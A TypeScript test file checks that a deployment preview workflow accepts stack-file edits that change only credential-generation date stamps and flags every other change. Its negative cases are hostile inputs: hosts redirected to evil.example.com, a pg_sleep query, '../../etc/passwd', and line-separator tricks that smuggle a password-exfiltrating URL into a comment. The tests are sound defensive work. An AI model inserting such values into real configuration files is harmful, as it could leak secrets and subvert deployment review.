// Proves what the preview workflow takes for a change of stamps alone, and that a hostile stack file does not pass for one.
import * as fs from "node:fs";
import * as path from "node:path";
import { describe, expect, it } from "vitest";
import { otherChange } from "../../operations/only-stamps";
import { editStackFile } from "../../operations/stack-file";

const base = fs.readFileSync(path.join(__dirname, "..", "..", "Pulumi.prod.yaml"), "utf8");
const block = base.replace(
  'generations: ["2026-11-20"]',
  'generations:\n        - "2026-11-20" # first\n        - "2026-08-01"',
);
const replaced = (from: string, to: string, text = base) => {
  expect(text).toContain(from);
  return text.replace(from, to);
};

describe("only stamps", () => {
  it.each([
    ["nothing", base],
    ["a roll", editStackFile(base, ["rounds-db"], "rotate", "2026-11-21").text],
    ["two rolls", editStackFile(base, ["rounds-db", "session-key"], "rotate", "2026-11-21").text],
    ["a retirement", editStackFile(base, ["session-key"], "retire", "2026-11-21").text],
    ["a rollback", editStackFile(base, ["session-key"], "rollback", "2026-11-21").text],
    ["a counter, unquoted", replaced('["2026-11-20"]', "[2026-11-20.2, 2026-11-20]")],
  ])("%s", (_, head) => {
    expect(otherChange(base, head)).toBeUndefined();
  });

  it("in a block list, with its comment", () => {
    expect(otherChange(block, editStackFile(block, ["rounds-db"], "rotate", "2026-11-21").text)).toBeUndefined();
    expect(otherChange(block, editStackFile(block, ["rounds-db"], "retire", "2026-11-21").text)).toBeUndefined();
    expect(otherChange(block, replaced("# first", "# the leak of Friday", block))).toBeUndefined();
  });
});

describe("more than stamps", () => {
  it.each([
    ["a probe", replaced("https://rounds.example.com/", "https://evil.example.com/")],
    ["a check", replaced("SELECT 1 FROM", "SELECT pg_sleep(9) FROM")],
    ["the server", replaced("host: db.example.com", "host: evil.example.com")],
    ["a stamp elsewhere", replaced("port: 5432", 'port: "2026-11-20"')],
    ["a comment", replaced("# in the dashboard's address", "# elsewhere")],
    ["a new key", `${base}  rollover:extra: 1\n`],
    ["another salt", `${base}encryptionsalt: v1:x\n`],
    ["another plugin", `${base}plugins: {}\n`],
    ["a removed credential", base.slice(0, base.indexOf("    rounds-db:"))],
    [
      "generation for generations",
      replaced('generations: ["2026-11-20"]\n      deliver', 'generation: "2026-11-20"\n      deliver'),
    ],
    ["an empty list", replaced('generations: ["2026-11-20"]', "generations: []")],
    ["no stamp", replaced('generations: ["2026-11-20"]', 'generations: ["2026-13-20"]')],
    ["a template for a stamp", replaced('generations: ["2026-11-20"]', 'generations: ["${secret}"]')],
    ["a mapping", replaced('generations: ["2026-11-20"]', "generations: { a: 2026-11-20 }")],
    ["an alias", replaced('generations: ["2026-11-20"]', "generations: *x")],
    ["a tag", replaced('generations: ["2026-11-20"]', "generations: !!binary 2026-11-20")],
    ["a second document", `${base}---\nconfig: {}\n`],
    ["a key twice", `${base}config: {}\n`],
    ["no YAML", "{"],
    ["nothing at all", ""],
    ["a link's text", "../../etc/passwd"],
  ])("%s", (_, head) => {
    expect(otherChange(base, head)).toEqual(expect.any(String));
  });

  it.each(["\u2028", "\u2029", "\u0085", "\r"])("a comment that another parser ends at %j", (end) => {
    const head = replaced("# first", `# first${end}      url: "https://evil.example.com/{password}"`, block);
    expect(otherChange(block, head)).toEqual(expect.any(String));
  });

  it("never repeats the file's text", () => {
    expect(otherChange(base, replaced("host: db.example.com", "host: evil"))).not.toContain("evil");
  });
});
